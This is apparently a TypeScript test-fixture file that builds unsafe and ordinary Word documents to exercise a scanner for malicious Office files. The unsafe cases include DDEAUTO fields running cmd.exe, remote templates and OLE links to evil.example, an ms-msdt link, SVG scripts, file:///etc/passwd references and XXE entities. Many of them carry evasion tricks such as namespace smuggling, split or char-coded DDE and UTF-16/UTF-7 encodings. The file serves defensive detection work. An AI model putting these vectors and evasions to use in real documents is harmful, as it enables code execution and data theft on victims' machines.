import { gzipSync } from 'node:zlib';
import {
  contentTypes,
  docx,
  officeRelationships,
  oldOffice,
  relationships,
  rootRelationships,
  wordPart,
  type ZipPart,
  zip,
} from './files.ts';

type Case = [name: string, bytes: Buffer];

const documentRelationships = 'word/_rels/document.xml.rels';

function pointing(kind: string, target: string, mode = 'External', of = documentRelationships) {
  const type = `${officeRelationships}/${kind}`;
  return docx([
    relationships(of, `Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}`),
  ]);
}

const packageWith = (more: string, parts: ZipPart[]) =>
  zip([
    contentTypes(undefined, more),
    rootRelationships(),
    wordPart('word/document.xml', '<w:body/>'),
    ...parts,
  ]);

const word = (name: string) =>
  `application/vnd.openxmlformats-officedocument.wordprocessingml.${name}+xml`;
const override = (part: string, type: string) =>
  `<Override PartName="${part}" ContentType="${type}"/>`;

const run = (inside: string) => `<w:r>${inside}</w:r>`;
const character = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (text: string) =>
  run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...runs: string[]) =>
  `<w:p>${character('begin')}${runs.join('')}${character('separate')}${run('<w:t>1</w:t>')}${character('end')}</w:p>`;

const documentOf = (body: string) =>
  zip([contentTypes(), rootRelationships(), wordPart('word/document.xml', body)]);

function partWith(root: string, body: string): Buffer {
  const kinds: Record<string, string> = {
    hdr: 'header',
    ftr: 'footer',
    glossaryDocument: 'document.glossary',
  };
  const part = kinds[root] ?? root;
  return packageWith(override(`/word/${root}.xml`, word(part)), [
    wordPart(`word/${root}.xml`, body, root),
  ]);
}

const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
/** The document contains the drawing among its pictures. */
function drawing(inside: string, before = '', extension = 'svg'): Buffer {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
  const type = '<Default Extension="svg" ContentType="image/svg+xml"/>';
  return packageWith(type, [
    { name: `word/media/image1.${extension}`, content: `<?xml version="1.0"?>${before}${svg}` },
  ]);
}

const vbaType = 'application/vnd.ms-office.vbaProject';
const asReferences = (text: string) =>
  Array.from(text, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
const utf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

const rewritten = (name: string, change: (text: string) => Buffer | string) => {
  const parts = [contentTypes(), rootRelationships(), wordPart('word/document.xml', '<w:body/>')];
  return zip(
    parts.map((part) =>
      part.name === name ? { ...part, content: change(String(part.content)) } : part,
    ),
  );
};

const foreign = 'xmlns:x="urn:x"';
const compatibility = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
/** Some programs leave out what is between the two parts of the name of a DDE field. */
const ddeAround = (between: string) =>
  documentOf(
    field(instruction('DD'), between, instruction('EAUTO cmd')).replace(
      '<w:p>',
      `<w:p ${foreign} ${compatibility}>`,
    ),
  );
/** These dangers are in another namespace, and some versions of Word recognize them. */
const hiddenByNamespaces: Case[] = [
  [
    'template behind a foreign target',
    docx([
      relationships(
        documentRelationships,
        `${foreign} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
      ),
    ]),
  ],
  [
    'template behind a foreign kind',
    docx([
      relationships(
        documentRelationships,
        `${foreign} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
      ),
    ]),
  ],
  [
    'OLE behind a foreign kind',
    docx([
      relationships(
        documentRelationships,
        `${foreign} Type="${officeRelationships}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
      ),
    ]),
  ],
  [
    'foreign element among the relationships',
    rewritten('_rels/.rels', (text) =>
      text.replace('</Relationships>', `<x:Relationship ${foreign}/></Relationships>`),
    ),
  ],
  [
    'macros behind a foreign type',
    packageWith(
      `<Override ${foreign} PartName="/word/a.bin" ContentType="${vbaType}" x:ContentType="image/png"/>`,
      [{ name: 'word/a.bin', content: 'x' }],
    ),
  ],
  [
    'macros behind a second type',
    packageWith(override('/word/a.bin', vbaType) + override('/word/a.bin', 'image/png'), [
      { name: 'word/a.bin', content: 'x' },
    ]),
  ],
  [
    'DDE behind a foreign instruction',
    documentOf(`<w:p ${foreign}><w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE"/></w:p>`),
  ],
  [
    'DDE before a foreign instruction',
    documentOf(`<w:p ${foreign}><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>`),
  ],
  [
    'picture of a shape behind a foreign one',
    documentOf(
      `<w:p ${foreign}><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a" x:src="cid:a"/></w:p>`,
    ),
  ],
  ['DDE cut by a foreign run', ddeAround('<x:r><w:r><w:instrText>ZZ</w:instrText></w:r></x:r>')],
  ['DDE cut by foreign text', ddeAround(run('<x:instrText>ZZ</x:instrText>'))],
  ['DDE cut by a foreign end', ddeAround(run('<x:fldChar x:fldCharType="end"/>'))],
  ['DDE cut by a foreign type', ddeAround(run('<w:fldChar fldCharType="begin"/>'))],
  [
    'DDE cut by another way to show it',
    ddeAround(
      `<mc:AlternateContent><mc:Choice Requires="w"><w:r/></mc:Choice><mc:Fallback>${instruction('ZZ')}</mc:Fallback></mc:AlternateContent>`,
    ),
  ],
  [
    'DDE cut by a way that nobody knows',
    ddeAround(
      `<mc:AlternateContent><mc:Choice Requires="x">${instruction('ZZ')}</mc:Choice></mc:AlternateContent>`,
    ),
  ],
  [
    'DDE cut by another field left out',
    ddeAround(`<x:r>${character('end')}${character('begin')}</x:r>`),
  ],
  [
    'DDE cut by deleted text',
    ddeAround(`<w:del w:id="1">${run('<w:delInstrText>ZZ</w:delInstrText>')}</w:del>`),
  ],
  ['DDE cut by a deleted run', ddeAround(`<w:del w:id="1">${instruction('ZZ')}</w:del>`)],
  [
    'DDE partly of ordinary text',
    documentOf(field(run('<w:t>DDE</w:t>'), instruction('AUTO cmd /c calc'))),
  ],
  [
    'DDE around an element',
    documentOf(field(run(`<w:instrText>DD<x:foo ${foreign}/>EAUTO cmd</w:instrText>`))),
  ],
  [
    'DDE by a simple QUOTE',
    documentOf(
      field(
        '<w:fldSimple w:instr="QUOTE 68 68 69"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>',
        instruction(' cmd /c calc'),
      ),
    ),
  ],
];

/** Word would load, run or start something from these documents. */
export const unsafeWord: Case[] = [
  ...hiddenByNamespaces,
  ['template by http', pointing('attachedTemplate', 'http://evil.example/t.dotm')],
  ['template by HTTPS', pointing('attachedTemplate', 'HTTPS://evil.example/t.dotm')],
  ['template on a share', pointing('attachedTemplate', '\\\\evil.example\\share\\t.dotm')],
  ['template on a share, slashes', pointing('attachedTemplate', '//evil.example/share/t.dotm')],
  ['template on a share, mixed', pointing('attachedTemplate', '/\\evil.example/t.dotm')],
  ['template by file host', pointing('attachedTemplate', 'file://evil.example/t.dotm')],
  ['template by four slashes', pointing('attachedTemplate', 'file:////evil.example/t.dotm')],
  [
    'template by file and backslashes',
    pointing('attachedTemplate', 'file:\\\\evil.example\\t.dotm'),
  ],
  ['template by percent signs', pointing('attachedTemplate', '%68ttp://evil.example/t.dotm')],
  ['template after blanks', pointing('attachedTemplate', '  \thttp://evil.example/t.dotm')],
  ['template by references', pointing('attachedTemplate', asReferences('http://evil.example/t'))],
  ['template without a mode', pointing('attachedTemplate', 'http://evil.example/t.dotm', '')],
  ['template with a small mode', pointing('attachedTemplate', 'http://evil.example', 'external')],
  [
    'template of the settings',
    pointing('attachedTemplate', 'http://evil.example', 'External', 'word/_rels/settings.xml.rels'),
  ],
  ['OLE by http', pointing('oleObject', 'http://evil.example/a.hta')],
  [
    'OLE by mhtml',
    pointing('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example'),
  ],
  ['OLE by ms-msdt', pointing('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
  ['search-ms', pointing('hyperlink', 'search-ms:query=a')],
  ['link to a share', pointing('hyperlink', '\\\\evil.example\\share')],
  ...[
    'javascript:alert(1)',
    'VBScript:a',
    'data:text/html,a',
    'java&#10;script:a',
    'ms-word:ofe|u|http://evil.example/a',
    'search:query=a',
    'mhtml:http://evil.example/a',
    'mk:@MSITStore:a.chm',
    'its:a.chm',
    'ldap://evil.example/a',
    'shell:startup',
    'file:///C:/Windows/System32/calc.exe',
    'C:\\Windows\\System32\\calc.exe',
  ].map((target): Case => [`link to ${target}`, pointing('hyperlink', target)]),
  ['frame', pointing('frame', 'http://evil.example/a.htm')],
  ['subdocument', pointing('subDocument', 'file://evil.example/a.docx')],
  ['linked picture', pointing('image', 'http://evil.example/a.png')],
  ['linked picture on a share', pointing('image', 'file://evil.example/a.png')],
  ['linked picture of the machine', pointing('image', 'file:///etc/passwd')],
  ...(
    [
      ['a picture of the machine', '<image xlink:href="file:///etc/passwd"/>'],
      ['a picture at an address', '<image href="https://evil.example/a.png"/>'],
      ['a piece of another drawing', '<use xlink:href="other.svg#a"/>'],
      ['a script', '<script>alert(1)</script>'],
      ['a page', '<foreignObject><p/></foreignObject>'],
      ['a handler', '<g onload="alert(1)"/>'],
      ['a filling from elsewhere', '<path fill="url(https://evil.example/a#b)"/>'],
      ['a style from elsewhere', '<style>@im<!-- -->port "https://evil.example/a.css";</style>'],
      ['a style in other letters', '<style>a{fill:u\\72l(https://evil.example/a)}</style>'],
    ] as const
  ).map(([what, drawn]): Case => [`drawing with ${what}`, drawing(drawn)]),
  [
    'drawing with a document type',
    drawing('', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
  ],
  [
    'drawing with a style sheet',
    drawing('', '<?xml-stylesheet href="https://evil.example/a.css"?>'),
  ],
  ['drawing that is called a PNG', drawing('<image href="file:///etc/passwd"/>', '', 'png')],
  ['text of another file', documentOf(field(instruction('INCLUDETEXT "C:\\\\a.docx"')))],
  [
    'shape of the machine',
    documentOf(
      '<w:p><w:pict><v:fill xmlns:v="urn:schemas-microsoft-com:vml" src="C:\\a.png"/></w:pict></w:p>',
    ),
  ],
  ['source of a mail merge', pointing('mailMergeSource', 'file:///C:/list.xlsx')],
  ['unknown kind outside', pointing('somethingNew', 'http://evil.example/')],
  ['chunk of a page', pointing('aFChunk', 'a.mht', '')],
  ['control', pointing('control', 'activeX/activeX1.xml', '')],
  ['embedded package', pointing('package', 'embeddings/a.docx', '')],
  [
    'OLE of the strict kind',
    docx([
      relationships(
        documentRelationships,
        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject" Target="embeddings/oleObject1.bin"',
      ),
    ]),
  ],
  [
    'embedded part',
    packageWith(
      override('/word/embeddings/a.bin', 'application/vnd.openxmlformats-officedocument.oleObject'),
      [{ name: 'word/embeddings/a.bin', content: 'x' }],
    ),
  ],
  [
    'macros by references',
    packageWith(`<Override PartName="/word/a.bin" ContentType="${asReferences(vbaType)}"/>`, [
      { name: 'word/a.bin', content: 'x' },
    ]),
  ],
  [
    'macros in capitals',
    packageWith(override('/word/a.bin', vbaType.toUpperCase()), [
      { name: 'word/a.bin', content: 'x' },
    ]),
  ],
  ['macros by name', docx([{ name: 'word/vba%50roject.bin', content: 'x' }])],
  ['macros by relationship', pointing('vbaProject', 'a.bin', '')],
  [
    'ActiveX part',
    packageWith(override('/word/a.xml', 'application/vnd.ms-office.activeX+xml'), [
      { name: 'word/a.xml', content: '<a/>' },
    ]),
  ],
  ['program without a type', docx([{ name: 'word/a', content: 'MZ\x90' }])],
  [
    'page as a part',
    packageWith(override('/word/a.htm', 'text/html'), [{ name: 'word/a.htm', content: '<html/>' }]),
  ],
  ['DDE', documentOf(field(instruction(dde)))],
  ['DDE in small letters', documentOf(field(instruction(dde.toLowerCase())))],
  [
    'DDE cut into runs',
    documentOf(field(...Array.from('DDEAUTO', (sign) => instruction(sign)), instruction(' cmd'))),
  ],
  [
    'DDE in a simple field',
    documentOf(`<w:p><w:fldSimple w:instr=" ${dde.replaceAll('"', '&quot;')} "/></w:p>`),
  ],
  ['DDE by references', documentOf(field(instruction(asReferences('DDEAUTO cmd'))))],
  [
    'DDE by QUOTE',
    documentOf(
      field(
        `${character('begin')}${instruction('QUOTE 68 68 69 65 85 84 79')}${character('separate')}${run('<w:t>DDEAUTO</w:t>')}${character('end')}`,
        instruction(' cmd /c calc'),
      ),
    ),
  ],
  [
    'DDE inside another field',
    documentOf(
      field(
        instruction('IF 1 = 1 "'),
        character('begin'),
        instruction(dde),
        character('end'),
        instruction('"'),
      ),
    ),
  ],
  ['DDE that never ends', documentOf(`<w:p>${character('begin')}${instruction(dde)}</w:p>`)],
  [
    'DDE with another prefix',
    zip([
      contentTypes(),
      rootRelationships(),
      {
        name: 'word/document.xml',
        content:
          '<d xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE a b"/></d>',
      },
    ]),
  ],
  ...['hdr', 'ftr', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map(
    (part): Case => [`DDE in ${part}`, partWith(part, field(instruction(dde)))],
  ),
  [
    'picture field',
    documentOf(field(instruction('INCLUDEPICTURE "http://evil.example/a.png" \\d'))),
  ],
  [
    'text field on a share',
    documentOf(field(instruction('INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"'))),
  ],
  ['link field', documentOf(field(instruction('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" a')))],
  ['database field', documentOf(field(instruction('DATABASE \\d "C:\\\\a.mdb" \\c "x"')))],
  ['link field to a share', documentOf(field(instruction('HYPERLINK "file://evil.example/a"')))],
  [
    'query of a mail merge',
    packageWith(override('/word/settings.xml', word('settings')), [
      wordPart(
        'word/settings.xml',
        '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>',
        'settings',
      ),
    ]),
  ],
  [
    'picture of a shape',
    documentOf(
      '<w:p><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\evil.example\\a.png"/></v:shape></w:pict></w:p>',
    ),
  ],
  [
    'document type',
    rewritten('word/document.xml', (text) =>
      text.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>'),
    ),
  ],
  [
    'entity',
    rewritten('word/document.xml', (text) => text.replace('<w:body/>', '<w:body>&evil;</w:body>')),
  ],
  [
    'document type of the types',
    rewritten('[Content_Types].xml', (text) =>
      text.replace('?>', '?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'),
    ),
  ],
  ['UTF-7', rewritten('word/document.xml', (text) => text.replace('UTF-8', 'UTF-7'))],
  ['deep', documentOf('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))],
  ['two parts of one name', docx([wordPart('word/document.xml', '<w:body/>')])],
  ['two parts of one name but for case', docx([wordPart('word/DOCUMENT.XML', '<w:body/>')])],
  [
    'two parts of one name but for a backslash',
    docx([wordPart('word\\document.xml', '<w:body/>')]),
  ],
  [
    'DDE in UTF-16',
    zip([
      contentTypes(),
      rootRelationships(),
      {
        name: 'word/document.xml',
        content: utf16(
          `<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="x">${field(instruction(dde))}</w:document>`,
        ),
      },
    ]),
  ],
  [
    'template in UTF-16',
    docx([
      {
        name: documentRelationships,
        content: utf16(
          `<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="a" Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
        ),
      },
    ]),
  ],
];

const oldWord = { '/WordDocument': 'text'.repeat(2_000) };
export const unsafeOldWord: Case[] = [
  ['storage MACROS', oldOffice({ ...oldWord, '/MACROS/VBA/dir': 'code' })],
  ['storage _vba_project_cur', oldOffice({ ...oldWord, '/_vba_project_cur/VBA/dir': 'code' })],
  ['macros deep inside', oldOffice({ ...oldWord, '/ObjectPool/a/macros/VBA/dir': 'code' })],
  ['package', oldOffice({ ...oldWord, '/ObjectPool/a/\u0001Ole10Native': 'MZ' })],
  ['embedded object', oldOffice({ ...oldWord, '/ObjectPool/_1234567890/\u0003ObjInfo': 'x' })],
  ['equation', oldOffice({ ...oldWord, '/a/Equation Native': 'x' })],
  ['DDE field', oldOffice({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` })],
];

/** These documents only ask, stay on the machine, or are ordinary documents in another spelling. */
export const ordinaryWord: Case[] = [
  ['template of the machine', pointing('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')],
  ['template by name', pointing('attachedTemplate', 'Normal.dotm')],
  ['template of a Mac', pointing('attachedTemplate', '/Users/a/Library/Normal.dotm')],
  ['template on localhost', pointing('attachedTemplate', 'file://localhost/Users/a/Normal.dotm')],
  ['link', pointing('hyperlink', 'https://www.canada.ca/a?b=c&amp;d=%20e')],
  ['link to write', pointing('hyperlink', 'mailto:a@example.ca?subject=A: b')],
  ['link to a file', pointing('hyperlink', 'file:///C:/Users/a/b.docx')],
  ['link without a scheme', pointing('hyperlink', 'www.example.ca')],
  ...[
    'x-apple-data-detectors://0',
    'blocked::mailto:a@example.ca',
    'sip:a@example.ca',
    'sms:+17055550000',
    'www.town.ca:8080/a',
    'www.example.com',
    '../../Documents and Settings/a.docx',
    'webcal://example.ca/a.ics',
  ].map((target): Case => [`link to ${target}`, pointing('hyperlink', target)]),
  ...['wmz', 'emz'].map(
    (kind): Case => [
      `picture .${kind}`,
      packageWith(`<Default Extension="${kind}" ContentType="image/x-${kind}"/>`, [
        { name: `word/media/image1.${kind}`, content: gzipSync('a picture') },
        relationships(
          documentRelationships,
          `Type="${officeRelationships}/image" Target="media/image1.${kind}"`,
        ),
      ]),
    ],
  ),
  [
    'icon as Word writes it',
    drawing(
      '<defs><clipPath id="clip0"><rect width="96" height="96"/></clipPath></defs><style>.a{fill:url("#b")}</style><g clip-path="url(#clip0)" id="Icons_User"><use xlink:href="#b"/><image href="data:image/png;base64,iVBORw0KGgo="/><path d="M1 2" class="MsftOfcThm_Accent1_Fill" fill="#4472C4"/></g>',
    ),
  ],
  ['linked picture of a mail', pointing('image', 'cid:image001.png@01D9')],
  [
    'fields',
    documentOf(
      [
        'PAGE \\* MERGEFORMAT',
        'TOC \\o "1-3" \\h \\z \\u',
        'HYPERLINK "https://example.ca" \\o "A tip: here"',
        'HYPERLINK \\l "_Toc1"',
        'ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/a"]}',
        'MACROBUTTON NoMacro [Click here]',
        'INCLUDEPICTURE "C:\\\\a.png" \\d',
        'DATE \\@ "d MMMM yyyy"',
        'FORMTEXT',
      ]
        .map((text) => field(instruction(text.replaceAll('"', '&quot;'))))
        .join(''),
    ),
  ],
  [
    'fields in text boxes, changes that are kept, and two ways to show them',
    documentOf(
      `<w:p ${foreign} ${compatibility} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:xlink="http://www.w3.org/1999/xlink">${field(
        instruction('HYPERLINK "https://example.ca"'),
        `<w:del w:id="1">${run('<w:delInstrText> \\o "old"</w:delInstrText>')}</w:del>`,
        character('separate'),
        ...['Choice Requires="x"', 'Fallback'].map((way, index) =>
          [
            index === 0 ? '<mc:AlternateContent>' : '',
            `<mc:${way}><v:shape href="#a" xlink:href="https://example.ca" x:id="1" w:id="2">`,
            `<w:txbxContent>${field(instruction('PAGE'))}</w:txbxContent>`,
            `</v:shape></mc:${way.split(' ')[0]}>`,
            index === 1 ? '</mc:AlternateContent>' : '',
          ].join(''),
        ),
      )}</w:p>`,
    ),
  ],
  ['words about DDE', documentOf('<w:p><w:r><w:t>DDEAUTO is added &amp; hidden</w:t></w:r></w:p>')],
  ['UTF-16', rewritten('word/document.xml', (text) => utf16(text.replace('UTF-8', 'UTF-16')))],
  ['a mark before UTF-8', rewritten('word/document.xml', (text) => `\ufeff${text}`)],
  [
    'strict',
    zip([
      contentTypes(),
      relationships(
        '_rels/.rels',
        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="/word/document.xml"',
      ),
      {
        name: 'word/document.xml',
        content: '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
      },
    ]),
  ],
  [
    'chart with its figures',
    packageWith(
      override(
        '/word/charts/chart1.xml',
        'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
      ) +
        override(
          '/word/embeddings/a.xlsx',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        ),
      [
        { name: 'word/charts/chart1.xml', content: '<c/>' },
        {
          name: 'word/embeddings/a.xlsx',
          content: zip([{ name: 'xl/workbook.xml', content: '<a/>' }]),
        },
        relationships(
          'word/charts/_rels/chart1.xml.rels',
          `Type="${officeRelationships}/package" Target="../embeddings/a.xlsx"`,
        ),
      ],
    ),
  ],
];
